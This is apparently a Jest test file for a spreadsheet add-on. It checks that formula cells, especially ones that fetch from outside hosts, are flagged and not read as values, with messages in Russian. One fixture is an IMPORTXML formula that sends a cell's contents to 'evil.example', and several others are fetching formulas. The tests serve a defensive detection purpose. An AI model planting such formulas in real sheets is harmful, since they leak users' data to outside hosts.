/** Formula cells read by the domain: reported by column role and by what the formula calls, never read as a value. */
import { fetchesFromOutside, FormulaCell, formulaProblem } from '../../src/domain/formulas';
import { readSheetRow } from '../../src/domain/schemas';

describe('fetchesFromOutside', () => {
  it.each([
    '=IMPORTXML("http://x", "//a")',
    '=importdata("http://x/"&A2)',
    '=IF(A2="",,IMPORTHTML("http://x","table",1))',
    '=IMPORTFEED(B2)',
    '=IMPORTRANGE("1abc","A1")',
    '=IMAGE("http://x/p.png?"&C2)',
  ])('%s fetches', (formula) => expect(fetchesFromOutside(formula)).toBe(true));

  it.each(['=1+1', '=A2&" "&B2', '=MYIMAGE(1)', '="IMPORTXML("', '=SUM(IMAGES.A1)'])('%s does not', (formula) =>
    expect(fetchesFromOutside(formula)).toBe(false),
  );
});

describe('formulaProblem', () => {
  it('an error when it fetches or when the add-on fills the column; a warning in a person’s column', () => {
    expect(formulaProblem(new FormulaCell('=IMAGE("http://x")'), 'input', 'текст').severity).toBe('error');
    expect(formulaProblem(new FormulaCell('=1+1'), 'service', 'текст').severity).toBe('error');
    expect(formulaProblem(new FormulaCell('=1+1'), 'input', 'текст')).toEqual({
      severity: 'warning',
      message: 'в ячейке формула =1+1, а не текст. Надстройка не берёт результат формулы — впишите значение.',
    });
  });
});

describe('readSheetRow with formula cells', () => {
  it('leaves the field empty and says only that the cell holds a formula', () => {
    const reading = readSheetRow(
      {
        organization: new FormulaCell('=IMPORTXML("http://evil.example/?q="&D2, "//a")'),
        createdOn: new FormulaCell('=TODAY()'),
        esiaVerified: new FormulaCell('=TRUE'),
      },
      { today: '2026-03-05' },
    );
    expect(reading.page.organization).toBeNull();
    expect(reading.page.createdOn).toBeNull();
    expect(reading.page.esiaVerified).toBe(false);
    const about = (column: string) => reading.problems.filter((problem) => problem.column === column);
    expect(about('organization')).toEqual([
      expect.objectContaining({
        severity: 'error',
        message: expect.stringMatching(/^«Организация»: в ячейке формула =IMPORTXML/),
      }),
    ]);
    expect(about('createdOn')).toEqual([
      expect.objectContaining({ severity: 'warning', message: expect.stringContaining('формула =TODAY(), а не дата') }),
    ]);
    expect(about('esiaVerified')).toEqual([
      expect.objectContaining({ severity: 'warning', message: expect.stringContaining('а не флажок') }),
    ]);
  });

  it('lists formula cells in the order of the columns, whatever their kinds', () => {
    const reading = readSheetRow(
      {
        govMark: new FormulaCell('=TRUE'),
        inn: new FormulaCell('=1'),
        deletedOn: new FormulaCell('=TODAY()'),
        link: new FormulaCell('=A1'),
        createdOn: new FormulaCell('=TODAY()'),
        organization: new FormulaCell('=B1'),
      },
      { today: '2026-03-05' },
    );
    const formulaColumns = reading.problems
      .filter((problem) => problem.message.includes('формула'))
      .map((problem) => problem.column);
    expect(formulaColumns).toEqual(['organization', 'link', 'createdOn', 'deletedOn', 'inn', 'govMark']);
  });
});
